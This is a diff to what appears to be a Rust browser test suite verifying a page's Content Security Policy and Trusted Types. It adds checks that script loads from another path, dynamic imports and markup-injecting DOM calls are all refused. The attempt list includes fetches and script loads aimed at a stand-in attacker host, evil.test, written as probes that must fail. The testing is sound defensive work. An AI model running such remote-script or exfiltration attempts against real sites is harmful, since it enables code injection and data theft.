@@ -36,9 +36,14 @@ pub(super) async fn inside_another_page_it_takes_no_key(stage: &Stage) -> Result
     Ok(())
 }
 
+/// Below the page's host and outside its folder.
+const OTHER_SCRIPT: &str = "/other/script.js";
+
 pub(super) async fn the_policy_lets_nothing_else_out(stage: &Stage) -> Result<()> {
     stage.page.open().await?;
     let page = &stage.page;
+    // A file of the same site, but none that the page was published with: another project's, say.
+    stage.harness.pages.put(PAGES_HOST, OTHER_SCRIPT, "window.ran = true;")?;
     let attempts = [
         "fetch('https://evil.test/').then(() => 'sent', () => 'refused')",
         "fetch('https://codestral.mistral.ai/v1/models').then(() => 'sent', () => 'refused')",
@@ -49,18 +54,44 @@ pub(super) async fn the_policy_lets_nothing_else_out(stage: &Stage) -> Result<()
         "new Promise(done => { const script = document.createElement('script'); \
          script.onload = () => done('sent'); script.onerror = () => done('refused'); \
          script.src = 'https://evil.test/script.js'; document.head.append(script); })",
+        "new Promise(done => { const script = document.createElement('script'); \
+         script.onload = () => done('sent'); script.onerror = () => done('refused'); \
+         script.src = '/other/script.js'; document.head.append(script); })",
+        "import('https://pages.test/other/script.js').then(() => 'sent', () => 'refused')",
     ];
     for attempt in attempts {
         // A thrown SecurityError is a refusal too.
         let attempt = format!("(async () => {attempt})().catch(() => 'refused')");
         same!(page.promise(&attempt, &[]).await?, json!("refused"), "{attempt}");
     }
-    let inline = "(() => { const script = document.createElement('script'); script.textContent = 'window.ran = true'; \
+    let inline = "(() => { const script = document.createElement('script'); script.append('window.ran = true'); \
                   document.head.append(script); return window.ran === true; })()";
     same!(page.value(inline, &[]).await?, json!(false), "an inline script ran");
     // The search at the end of each journey fails for any stranger; this says it in this journey's words.
     let evil: Vec<_> = stage.harness.ledger.strangers();
     ensure!(evil.is_empty(), "connections were opened: {evil:?}");
+    let requests = stage.harness.ledger.requests();
+    ensure!(requests.iter().all(|request| request.path != OTHER_SCRIPT), "another script was asked for");
+    Ok(())
+}
+
+/// Both browsers enforce Trusted Types: the one policy is made, and nothing else turns text into markup or code.
+pub(super) async fn text_becomes_neither_markup_nor_code(stage: &Stage) -> Result<()> {
+    stage.page.open().await?;
+    for attempt in [
+        "document.createElement('p').innerHTML = '<b></b>'",
+        "document.createElement('p').insertAdjacentHTML('beforeend', '<b></b>')",
+        "document.createElement('iframe').srcdoc = '<b></b>'",
+        "new DOMParser().parseFromString('<b></b>', 'text/html')",
+        "document.createElement('script').src = './boot.js'",
+        "trustedTypes.createPolicy('another', { createHTML: text => text })",
+        "trustedTypes.createPolicy('key-tester', { createHTML: text => text })",
+    ] {
+        let tried = format!(
+            "(() => {{ try {{ {attempt}; return 'done'; }} catch (error) {{ return error.name; }} }})()"
+        );
+        same!(stage.page.value(&tried, &[]).await?, json!("TypeError"), "{attempt}");
+    }
     Ok(())
 }
 
